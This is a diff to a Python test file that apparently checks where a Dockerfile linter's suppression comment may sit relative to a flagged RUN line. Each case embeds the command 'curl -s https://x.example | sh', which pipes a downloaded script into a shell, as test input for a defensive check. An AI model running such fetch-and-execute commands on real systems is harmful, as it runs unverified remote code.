@@ -16,9 +16,11 @@ HEAD = "FROM alpine:3.20\nUSER 1000\n"
 CASES = {
     "directly above": COMMENT + "RUN curl -s https://x.example | sh\n",
     "a blank line between": COMMENT + "\nRUN curl -s https://x.example | sh\n",
-    "blank lines and comments between": COMMENT + "\n# fetch the installer\n\n# and run it\nRUN curl -s https://x.example | sh\n",
+    "blank lines and comments between":
+        COMMENT + "\n# fetch the installer\n\n# and run it\nRUN curl -s https://x.example | sh\n",
     "the finding on a continuation line": COMMENT + "RUN apk add curl && \\\n    curl -s https://x.example | sh\n",
-    "a blank line and a comment inside the continuation": COMMENT + "\nRUN apk add curl && \\\n\n    # installer\n    curl -s https://x.example | sh\n",
+    "a blank line and a comment inside the continuation":
+        COMMENT + "\nRUN apk add curl && \\\n\n    # installer\n    curl -s https://x.example | sh\n",
     "inside the continuation": "RUN apk add curl && \\\n" + COMMENT + "    curl -s https://x.example | sh\n",
 }
 
